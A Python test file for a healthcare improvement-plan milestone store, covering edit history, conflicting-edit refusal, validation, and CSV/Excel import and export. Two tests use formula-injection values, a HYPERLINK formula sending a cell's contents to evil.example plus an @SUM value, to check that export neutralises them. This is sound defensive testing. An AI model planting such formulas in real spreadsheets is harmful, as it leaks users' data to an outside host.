"""The Improvement Plan store: conflicting edits refused, history kept, import validated, export safe."""

from __future__ import annotations

import io
from datetime import date, datetime

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from analysis.core.errors import ConflictError
from analysis.core.schema import ValidationError
from analysis.plan import import_export as plan_io
from analysis.plan import milestone_store as plan_store
from analysis.plan.milestone_store import MilestoneEdit, MilestoneNotFound
from analysis.store import get_engine
from tests.property_budget import examples


@pytest.fixture
def engine(fresh_store: str):
    return get_engine(fresh_store)


def _add(engine, **over) -> str:
    values = {
        "area": "Patient Safety",
        "milestone": "72-hour follow-up after discharge",
        "owner": "Director of Nursing",
        "due_date": "2025-03-31",
        "status": "on track",
        "percent_complete": 20,
        "themes": "discharge_planning|crisis_care",
    }
    values.update(over)
    return plan_store.add_milestone(
        values, by="Plan office", at=datetime(2025, 1, 1, 9), engine=engine
    )


def test_add_then_update_keeps_every_change_in_the_history(engine) -> None:
    mid = _add(engine)
    assert mid == "M001"
    v = plan_store.update_milestone(
        mid,
        {"status": "At Risk", "percent_complete": "35%", "owner": "Director of Nursing"},
        expected_version=1,
        by="Head of Quality",
        at=datetime(2025, 2, 1, 10),
        engine=engine,
    )
    assert v == 2
    row = plan_store.load_milestones(engine).iloc[0]
    assert (row["status"], row["percent_complete"], row["version"]) == ("at risk", 35, 2)
    assert row["due_date"] == pd.Timestamp("2025-03-31")
    assert (row["updated_by"], row["updated"]) == (
        "Head of Quality",
        pd.Timestamp("2025-02-01 10:00"),
    )
    hist = plan_store.load_history(mid, engine=engine)
    # The unchanged owner is not written; created + two changed fields are.
    assert hist[["field", "old_value", "new_value", "changed_by"]].values.tolist() == [
        ["created", "", "72-hour follow-up after discharge", "Plan office"],
        ["status", "on track", "at risk", "Head of Quality"],
        ["percent_complete", "20", "35", "Head of Quality"],
    ]
    # Saving identical values changes nothing and writes no history.
    assert (
        plan_store.update_milestone(
            mid, {"status": "at risk"}, expected_version=2, by="x", engine=engine
        )
        == 2
    )
    assert len(plan_store.load_history(mid, engine=engine)) == 3


def test_a_conflicting_edit_is_refused_naming_who_changed_it_and_when(engine) -> None:
    mid = _add(engine)
    plan_store.update_milestone(
        mid,
        {"percent_complete": 50},
        expected_version=1,
        by="Director of Nursing",
        at=datetime(2025, 2, 3, 14, 30),
        engine=engine,
    )
    with pytest.raises(
        ConflictError, match=r"changed by Director of Nursing at 03 Feb 2025 14:30"
    ) as info:
        plan_store.update_milestone(
            mid, {"status": "complete"}, expected_version=1, by="Ward Manager", engine=engine
        )
    assert info.value.current_version == 2 and info.value.expected_version == 1
    row = plan_store.load_milestones(engine).iloc[0]
    assert (row["status"], row["percent_complete"]) == (
        "on track",
        50,
    )  # theirs kept, nothing overwritten
    assert "complete" not in plan_store.load_history(mid, engine=engine)["new_value"].tolist()


def test_apply_edits_saves_the_good_ones_and_reports_conflicts_and_bad_values(engine) -> None:
    a, b, c = _add(engine), _add(engine, milestone="Carer training"), _add(engine, milestone="FTSU")
    plan_store.update_milestone(
        b, {"owner": "Chief Nurse"}, expected_version=1, by="Chief Nurse", engine=engine
    )
    result = plan_store.apply_edits(
        [
            MilestoneEdit(a, {"status": "complete", "percent_complete": 100}, 1),
            MilestoneEdit(b, {"status": "off track"}, 1),
            MilestoneEdit(c, {"percent_complete": 140}, 1),
            MilestoneEdit("M999", {"status": "complete"}, 1),
        ],
        by="Plan office",
        engine=engine,
    )
    assert result.saved == [a]
    assert len(result.conflicts) == 2 and "changed by Chief Nurse" in result.conflicts[0]
    assert "no longer exists" in result.conflicts[1]
    assert result.problems == [f"{c} not saved: percent complete 140 is outside 0-100."]
    ms = plan_store.load_milestones(engine).set_index("milestone_id")
    assert ms.loc[a, "status"] == "complete" and ms.loc[b, "status"] == "on track"


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"status": "nearly"}, "unknown status"),
        ({"area": "Finance"}, "unknown area"),
        ({"percent_complete": -1}, "outside 0-100"),
        ({"percent_complete": "lots"}, "not a number"),
        ({"due_date": "31/02/2025"}, "not a date"),
        ({"milestone": "  "}, "no description"),
        ({"themes": "Access to support"}, "not valid"),
        ({"version": 3}, "cannot be edited"),
    ],
)
def test_bad_values_are_refused_with_a_reason(engine, changes: dict, message: str) -> None:
    mid = _add(engine)
    with pytest.raises(ValidationError, match=message):
        plan_store.update_milestone(mid, changes, expected_version=1, by="x", engine=engine)


def test_update_of_a_missing_milestone_and_anonymous_edits_are_refused(engine) -> None:
    with pytest.raises(MilestoneNotFound):
        plan_store.update_milestone(
            "M404", {"status": "complete"}, expected_version=1, by="x", engine=engine
        )
    mid = _add(engine)
    with pytest.raises(ValidationError, match="who"):
        plan_store.update_milestone(
            mid, {"status": "complete"}, expected_version=1, by="  ", engine=engine
        )
    with pytest.raises(ValidationError, match="area is required"):
        plan_store.add_milestone({"milestone": "No area"}, by="x", engine=engine)


def test_due_date_can_be_cleared_and_parsed_in_uk_format(engine) -> None:
    mid = _add(engine)
    plan_store.update_milestone(
        mid, {"due_date": "30/06/2025"}, expected_version=1, by="x", engine=engine
    )
    assert plan_store.load_milestones(engine).iloc[0]["due_date"] == pd.Timestamp("2025-06-30")
    plan_store.update_milestone(mid, {"due_date": None}, expected_version=2, by="x", engine=engine)
    assert pd.isna(plan_store.load_milestones(engine).iloc[0]["due_date"])
    last = plan_store.load_history(mid, engine=engine).iloc[-1]
    assert (last["field"], last["old_value"], last["new_value"]) == ("due_date", "2025-06-30", "")


def test_diff_edits_finds_only_changed_editable_cells() -> None:
    original = pd.DataFrame(
        {
            "milestone_id": ["M1", "M2"],
            "status": ["on track", "at risk"],
            "percent_complete": [10, 20],
            "due_date": pd.to_datetime(["2025-01-31", None]),
            "owner": ["A", "B"],
            "updated_by": ["x", "y"],
            "version": [3, 7],
        }
    )
    edited = original.copy()
    edited["due_date"] = edited["due_date"].astype(object)  # st.data_editor gives dates back
    edited.loc[1, "status"] = "complete"
    edited.loc[1, "due_date"] = date(2025, 5, 1)
    edited.loc[0, "updated_by"] = "not editable"
    edits = plan_store.diff_edits(original, edited)
    assert len(edits) == 1
    assert edits[0].milestone_id == "M2" and edits[0].expected_version == 7
    assert set(edits[0].changes) == {"status", "due_date"}


def test_demo_plan_loads_once_and_is_consistent(engine) -> None:
    assert plan_store.ensure_demo_plan(engine) == 30
    assert plan_store.ensure_demo_plan(engine) == 0
    ms = plan_store.load_milestones(engine)
    hist = plan_store.load_history(engine=engine)
    assert set(ms["status"]) == {"not started", "on track", "at risk", "off track", "complete"}
    assert ms["due_date"].isna().sum() == 1
    # Every milestone's current status is where its status history ends.
    last_status = hist[hist["field"] == "status"].groupby("milestone_id")["new_value"].last()
    for mid, status in last_status.items():
        assert ms.set_index("milestone_id").loc[mid, "status"] == status
    reopened = hist[(hist["field"] == "status") & (hist["old_value"] == "complete")]
    assert len(reopened) >= 1
    v0 = plan_store.plan_version(engine)
    plan_store.update_milestone(
        "M001", {"evidence": "Audit"}, expected_version=1, by="x", engine=engine
    )
    assert plan_store.plan_version(engine) != v0


# --- import / export -------------------------------------------------------------------------

CSV = (
    "ID,Area,Milestone,Owner,Due date,Status,% complete,Themes\n"
    "M001,Patient Safety,Updated title,Director of Nursing,31/03/2025,Complete,100,discharge_planning\n"
    ",People,Carer awareness training,Head of People,2025-06-30,on track,40,carers_family\n"
    ",Finance,Balance the books,CFO,2025-06-30,on track,40,\n"
    ",Culture,Speak up,Guardian,2025-13-45,at risk,20,\n"
    ",Culture,Respect charter,Patient Experience,,Amber,150,\n"
    ",Culture,Ward meetings,Ward Manager,,Bananas,10,\n"
    ",,,,,,,\n"
    ",Leadership and Governance,Board reviews themes,Company Secretary,,not started,,\n"
)


def test_import_keeps_good_rows_and_reports_bad_ones_by_row_number(engine) -> None:
    _add(engine)
    result = plan_io.import_milestones(
        CSV.encode("utf-8"), "plan.csv", by="Plan office", engine=engine
    )
    assert (result.added, result.updated) == (2, 1)
    assert [(p.row, p.rejected) for p in result.problems] == [
        (4, True),
        (5, True),
        (6, True),
        (7, True),
    ]
    assert "unknown area" in result.problems[0].reason
    assert "not a date" in result.problems[1].reason
    assert "outside 0-100" in result.problems[2].reason
    assert "unknown status" in result.problems[3].reason
    ms = plan_store.load_milestones(engine).set_index("milestone")
    assert ms.loc["Updated title", "status"] == "complete"
    assert ms.loc["Board reviews themes", "percent_complete"] == 0
    hist = plan_store.load_history("M001", engine=engine)
    assert "Plan office" in hist["changed_by"].tolist() and "milestone" in hist["field"].tolist()


def test_import_refuses_a_stale_version_and_files_without_required_columns(engine) -> None:
    mid = _add(engine)
    plan_store.update_milestone(
        mid, {"status": "at risk"}, expected_version=1, by="Chief Nurse", engine=engine
    )
    stale = "milestone_id,area,milestone,status,version\nM001,Patient Safety,Title,complete,1\n"
    result = plan_io.import_milestones(stale.encode(), "plan.csv", by="x", engine=engine)
    assert result.updated == 0 and "changed by Chief Nurse" in result.problems[0].reason
    with pytest.raises(ValidationError, match='no "status" column'):
        plan_io.import_milestones(b"area,milestone\nPeople,x\n", "plan.csv", by="x", engine=engine)
    with pytest.raises(ValidationError):
        plan_io.import_milestones(b"\x89PNG\r\n\x1a\nxxxx", "plan.csv", by="x", engine=engine)


def test_import_reads_xlsx(engine) -> None:
    buf = io.BytesIO()
    pd.DataFrame(
        {
            "Area": ["Culture"],
            "Milestone": ["Charter"],
            "Status": ["done"],
            "Due date": [pd.Timestamp("2025-01-31")],
        }
    ).to_excel(buf, index=False)
    result = plan_io.import_milestones(buf.getvalue(), "plan.xlsx", by="x", engine=engine)
    assert result.added == 1, result.problems
    row = plan_store.load_milestones(engine).iloc[0]
    assert (row["status"], row["due_date"]) == ("complete", pd.Timestamp("2025-01-31"))


def test_export_neutralises_formulas_and_round_trips(engine) -> None:
    _add(engine, milestone='=HYPERLINK("http://evil.example/?"&A1)', owner="@SUM(1+1)")
    data = plan_io.export_csv(engine)
    text = data.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'@SUM" in text
    assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text
    wb = load_workbook(io.BytesIO(plan_io.export_xlsx(engine)))
    assert wb.sheetnames == ["Milestones", "Change history"]
    values = [c.value for c in wb["Milestones"][2]]
    assert any(isinstance(v, str) and v.startswith("'=HYPERLINK") for v in values)
    assert all(c.data_type != "f" for row in wb["Milestones"].iter_rows() for c in row)
    # The exported CSV imports back without problems (the version column guards against conflicts).
    result = plan_io.import_milestones(data, "back.csv", by="x", engine=engine)
    assert result.problems == [] and result.added == 0


def test_diff_edits_ignores_representation_changes() -> None:
    original = pd.DataFrame(
        {
            "milestone_id": ["M1"],
            "status": ["on track"],
            "percent_complete": [45],
            "due_date": [date(2025, 1, 31)],
            "owner": ["A"],
            "evidence": [None],
            "version": [1],
        }
    )
    edited = original.assign(
        percent_complete=[45.0],
        due_date=[pd.Timestamp("2025-01-31")],
        evidence=[""],
        status=["On Track"],
    )
    assert plan_store.diff_edits(original, edited) == []
    bad = plan_store.diff_edits(original, original.assign(percent_complete=["lots"]))
    assert bad[0].changes == {"percent_complete": "lots"}  # kept, so validation can say why


@pytest.mark.parametrize(
    ("data", "message"),
    [(b"", "empty"), (b"\x00\x01\x02\x03" * 100, "binary"), (b"area;milestone\n", "status")],
    ids=["empty", "binary", "no-status-column"],
)
def test_import_refuses_unusable_files_with_a_message(engine, data: bytes, message: str) -> None:
    with pytest.raises(ValidationError, match=message):
        plan_io.import_milestones(data, "plan.csv", by="x", engine=engine)
    assert plan_store.load_milestones(engine).empty  # nothing half-imported


def test_import_of_windows_1252_text_and_hostile_values_keeps_them_as_text(engine) -> None:
    csv = (
        "area,milestone,status,owner,evidence\n"
        "Culture,Carers\u2019 caf\u00e9 every month,on track,Head of Patient Experience,"
        '"=HYPERLINK(""http://evil.example"")"\n'
    ).encode("cp1252")
    result = plan_io.import_milestones(csv, "plan.csv", by="x", engine=engine)
    assert result.added == 1 and not result.problems
    row = plan_store.load_milestones(engine).iloc[0]
    assert row["milestone"] == "Carers\u2019 caf\u00e9 every month"
    assert row["evidence"].startswith("=HYPERLINK")  # stored as typed; neutralised only on export
    assert "'=HYPERLINK" in plan_io.export_csv(engine).decode("utf-8-sig")


def test_import_header_only_adds_nothing(engine) -> None:
    result = plan_io.import_milestones(
        b"area,milestone,status\n", "plan.csv", by="x", engine=engine
    )
    assert (result.added, result.updated, result.problems) == (0, 0, [])


@settings(max_examples=examples(200), deadline=None)
@given(
    st.dictionaries(
        st.sampled_from(plan_store.EDITABLE_FIELDS + ("version", "x")),
        st.one_of(st.text(max_size=60), st.integers(), st.floats(), st.none(), st.dates()),
    )
)
def test_clean_fields_never_raises_and_reports_every_bad_value(values: dict) -> None:
    clean, problems = plan_store.clean_fields(values)
    assert len(clean) + len(problems) == len(values)
    if "percent_complete" in clean:
        assert 0 <= clean["percent_complete"] <= 100
